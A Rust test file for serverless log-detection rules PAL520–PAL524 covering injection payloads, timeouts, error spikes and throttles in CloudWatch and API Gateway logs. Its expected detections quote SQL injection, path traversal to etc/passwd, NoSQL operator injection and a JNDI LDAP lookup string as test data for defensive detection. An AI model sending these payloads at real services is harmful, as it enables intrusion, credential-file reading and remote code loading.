//! The function-log detections (PAL520–PAL524) on realistic CloudWatch exports read through
//! `palisade_logs`: each rule has a fixture that must fire and one that must not, under
//! `tests/fixtures/PAL52x/`.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    reason = "tests"
)]

use std::path::{Path, PathBuf};
use std::sync::Arc;

use palisade_detect::functions::{FunctionLogDetections, FunctionLogState, LogMessage};
use palisade_detect::{DetectConfig, Detection, Origin};

fn fixture(path: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures")
        .join(path)
}

/// Every file read in its own state, the states merged as `palisade detect` does.
fn run(function_files: &[(&str, &str)], access_files: &[&str]) -> Vec<Detection> {
    let detections = FunctionLogDetections::new(Arc::new(DetectConfig::default()));
    let mut merged = FunctionLogState::default();
    let mut out = Vec::new();
    for (file, fallback) in function_files {
        let mut state = FunctionLogState::default();
        let report = palisade_logs::read_function_logs(&fixture(file), fallback, &mut |e| {
            let origin = Origin {
                file: file.to_string(),
                at: e.at.to_string(),
            };
            let m = LogMessage {
                function: e.function,
                time_ms: e.time_ms,
                message: e.message,
            };
            detections.message(&m, &origin, &mut state, &mut out);
        });
        assert_eq!(report.malformed, 0, "{file}: {:?}", report.named);
        merged.merge(state);
    }
    for file in access_files {
        let mut state = FunctionLogState::default();
        let report = palisade_logs::read_access_logs(&fixture(file), &mut |e| {
            let origin = Origin {
                file: file.to_string(),
                at: e.at.clone(),
            };
            detections.access_log(&e, &origin, &mut state, &mut out);
        });
        assert_eq!(report.malformed, 0, "{file}: {:?}", report.named);
        merged.merge(state);
    }
    detections.finish(merged, &mut out);
    out
}

fn summary(found: &[Detection]) -> Vec<(String, String)> {
    found
        .iter()
        .map(|d| (d.rule.code.clone(), d.message.clone()))
        .collect()
}

fn codes(found: &[Detection]) -> Vec<&str> {
    found.iter().map(|d| d.rule.code.as_str()).collect()
}

#[test]
fn pal520_fires_once_per_request_and_class_on_logged_events() {
    let found = run(&[("PAL520/fire/orders-api.json", "unknown")], &[]);
    assert_eq!(
        summary(&found),
        [
            (
                "PAL520",
                "orders-api logged a SQL injection payload in request d23f0824-128b-2f33-0c5c-7fd0a6a3a450: 1' OR 1=1--"
            ),
            (
                "PAL520",
                "orders-api logged a path traversal payload in request 9531985d-5d9d-c9f8-1818-e811892f902b: ..%2f..%2f..%2fetc%2fpasswd"
            ),
            (
                "PAL520",
                "orders-api logged a NoSQL injection payload in request 36f675cc-81e7-4ef5-e8e2-5d940ed90475: \"password\": {\"$ne\":"
            ),
        ]
        .map(|(c, m)| (c.to_string(), m.to_string()))
    );
    let first = &found[0];
    assert_eq!(first.function.as_deref(), Some("orders-api"));
    assert_eq!(first.time_ms, Some(1_714_564_801_005));
    assert_eq!(first.origin.as_ref().unwrap().at, "logEvents[5]");
    assert!(
        first
            .event
            .as_ref()
            .unwrap()
            .contains("queryStringParameters")
    );
    assert_eq!(
        first.key,
        "orders-api/sql/d23f0824-128b-2f33-0c5c-7fd0a6a3a450"
    );
    assert!(
        first
            .evidence
            .contains(&("class".to_string(), "SQL injection".to_string()))
    );
    // The same file read twice (two exports of one log group) gives the same detections.
    let twice = run(
        &[
            ("PAL520/fire/orders-api.json", "unknown"),
            ("PAL520/fire/orders-api.json", "unknown"),
        ],
        &[],
    );
    assert_eq!(summary(&twice), summary(&found));
}

#[test]
fn pal520_stays_quiet_on_sql_paths_json_and_prices() {
    let found = run(&[("PAL520/pass/orders-api.json", "unknown")], &[]);
    assert!(found.is_empty(), "{:?}", summary(&found));
}

#[test]
fn pal520_caps_a_flood_per_function_and_says_how_many_more() {
    let detections = FunctionLogDetections::new(Arc::new(DetectConfig::default()));
    let mut state = FunctionLogState::default();
    let mut out = Vec::new();
    for i in 0..200 {
        let text = format!(
            "2024-05-01T12:00:00.000Z\t{i:08x}-7d34-4a8e-a965-15ccbbb78d4c\tINFO\tid=1' OR 1=1--"
        );
        let origin = Origin {
            file: "flood".into(),
            at: format!("line {}", i + 1),
        };
        let m = LogMessage {
            function: "orders-api",
            time_ms: Some(1_714_564_800_000 + i64::from(i)),
            message: &text,
        };
        detections.message(&m, &origin, &mut state, &mut out);
    }
    detections.finish(state, &mut out);
    assert_eq!(out.len(), 50);
    assert_eq!(
        out[49].evidence.last().unwrap(),
        &(
            "suppressed".to_string(),
            "150 more payload detections for function orders-api not reported (at most 50)"
                .to_string()
        )
    );
}

#[test]
fn pal521_fires_on_a_burst_of_timeouts_in_a_text_export() {
    let found = run(&[("PAL521/fire/shop-worker/000000.gz", "shop-worker")], &[]);
    assert_eq!(
        summary(&found),
        [(
            "PAL521".to_string(),
            "shop-worker timed out 6 times in 4 min from 2024-05-01T12:00:00Z (6 of 10 invocations): Task timed out after 3.00 seconds".to_string()
        )]
    );
    let d = &found[0];
    assert_eq!(d.origin.as_ref().unwrap().at, "line 8");
    assert!(d.evidence.contains(&(
        "first requestId".to_string(),
        "18f135d2-5f55-7203-3018-50c5a38fd547".to_string()
    )));
}

#[test]
fn pal521_stays_quiet_on_scattered_timeouts() {
    // Four timeouts in an hour, two of them a minute apart among 300 invocations.
    let found = run(&[("PAL521/pass/shop-worker/000000.gz", "shop-worker")], &[]);
    assert!(found.is_empty(), "{:?}", summary(&found));
}

#[test]
fn pal522_fires_on_an_error_spike_against_the_functions_own_rate() {
    let found = run(&[("PAL522/fire/payments.jsonl", "unknown")], &[]);
    assert_eq!(codes(&found), ["PAL522"]);
    assert!(found[0].message.starts_with(
        "payments logged 40 errors in 5 min from 2024-05-01T13:40:00Z, typically 1 per 5 min (median 1, MAD 1 over 24 buckets of 5 min; a spike is above 6); first: ERROR Invoke Error"
    ), "{}", found[0].message);
    assert_eq!(
        found[0].origin.as_ref().unwrap().at,
        "line 21 logEvents[13]"
    );
    assert_eq!(found[0].key, "payments/2024-05-01T13:40:00Z");
}

#[test]
fn pal522_stays_quiet_on_a_function_that_always_fails_a_little() {
    // 8 to 12 errors every 5 minutes, once 15: within the function's own spread.
    let found = run(&[("PAL522/pass/payments.jsonl", "unknown")], &[]);
    assert!(found.is_empty(), "{:?}", summary(&found));
}

#[test]
fn pal522_fires_on_5xx_in_access_logs_with_the_fallback_minimum() {
    let found = run(&[], &["PAL522/fire-api/access.jsonl"]);
    assert_eq!(
        summary(&found),
        [(
            "PAL522".to_string(),
            "API a1b2c3d4e5/prod gave 25 5xx responses in 5 min from 2024-05-01T12:00:00Z, too little history for a typical rate (fewer than 12 buckets of 5 min): 20 or more in 5 min is a spike; first: HTTP 502: The Lambda function returned the following error: Task timed out after 29.00 seconds".to_string()
        )]
    );
    assert_eq!(found[0].function, None);
}

#[test]
fn pal523_fires_on_throttles_in_lambda_json_logs() {
    let found = run(&[("PAL523/fire/exporter.jsonl", "exporter")], &[]);
    assert_eq!(
        summary(&found),
        [(
            "PAL523".to_string(),
            "exporter logged 30 throttles in 5 min from 2024-05-01T13:15:00Z, typically 0 per 5 min (median 0, MAD 0 over 18 buckets of 5 min; a spike is above 5); first: ProvisionedThroughputExceededException".to_string()
        )]
    );
    assert_eq!(found[0].function.as_deref(), Some("exporter"));
}

#[test]
fn pal523_stays_quiet_on_steady_throttling() {
    let found = run(&[("PAL523/pass/exporter.jsonl", "exporter")], &[]);
    assert!(found.is_empty(), "{:?}", summary(&found));
}

#[test]
fn pal524_fires_on_payloads_in_query_and_user_agent() {
    let found = run(&[], &["PAL524/fire/access.jsonl"]);
    assert_eq!(
        summary(&found),
        [
            (
                "PAL524",
                "GET /prod/files from 203.0.113.7 carried a path traversal payload in its query, answered 200: ?name=..%2f..%2f..%2fetc%2fpasswd"
            ),
            (
                "PAL524",
                "GET /prod/items from 203.0.113.7 carried a SQL injection payload in its query, answered 500: ?id=1' UNION SELECT NULL"
            ),
            (
                "PAL524",
                "GET /prod/items from 203.0.113.7 carried a template injection payload in its user agent, answered 200: ${jndi:ldap://198.51.100.9:1389/a}"
            ),
        ]
        .map(|(c, m)| (c.to_string(), m.to_string()))
    );
    assert_eq!(found[0].principal.as_deref(), Some("203.0.113.7"));
    assert_eq!(
        found[0].key,
        "a1b2c3d4e5/prod/traversal/00000002-7b61-11e6-9a41-93e8deadbeef"
    );
}

#[test]
fn pal524_stays_quiet_on_ordinary_requests() {
    let found = run(&[], &["PAL524/pass/access.jsonl"]);
    assert!(found.is_empty(), "{:?}", summary(&found));
}

#[test]
fn the_datadog_samples_raise_nothing() {
    let logs = Path::new(env!("CARGO_MANIFEST_DIR")).join("../palisade-logs/tests/data/lambda");
    let detections = FunctionLogDetections::new(Arc::new(DetectConfig::default()));
    let mut state = FunctionLogState::default();
    let mut out = Vec::new();
    let report = palisade_logs::read_function_logs(
        &logs.join("dd_event_cloudwatch_logs.json"),
        "unknown",
        &mut |e| {
            let origin = Origin {
                file: "dd_event_cloudwatch_logs.json".into(),
                at: e.at.to_string(),
            };
            let m = LogMessage {
                function: e.function,
                time_ms: e.time_ms,
                message: e.message,
            };
            detections.message(&m, &origin, &mut state, &mut out);
        },
    );
    assert_eq!(report.malformed, 0);
    let variants: Vec<serde_json::Value> = serde_json::from_str(
        &std::fs::read_to_string(logs.join("dd_report_line_variants.json")).unwrap(),
    )
    .unwrap();
    for (i, v) in variants.iter().enumerate() {
        let origin = Origin {
            file: "dd_report_line_variants.json".into(),
            at: format!("[{i}]"),
        };
        let m = LogMessage {
            function: "variants",
            time_ms: Some(1_728_002_195_800),
            message: v["line"].as_str().unwrap(),
        };
        detections.message(&m, &origin, &mut state, &mut out);
    }
    detections.finish(state, &mut out);
    assert!(out.is_empty(), "{:?}", summary(&out));
}

#[test]
fn every_rule_is_documented() {
    let rules = palisade_detect::functions::rules();
    let codes: Vec<&str> = rules.iter().map(|r| r.code).collect();
    assert_eq!(codes, ["PAL520", "PAL521", "PAL522", "PAL523", "PAL524"]);
    for r in rules {
        for heading in [
            "## What it does",
            "## Why is this bad?",
            "## Example",
            "## Fix",
            "## References",
        ] {
            assert!(r.docs.contains(heading), "{}: {heading}", r.code);
        }
        assert!(r.docs.contains("OWASP Serverless Top 10"), "{}", r.code);
    }
}
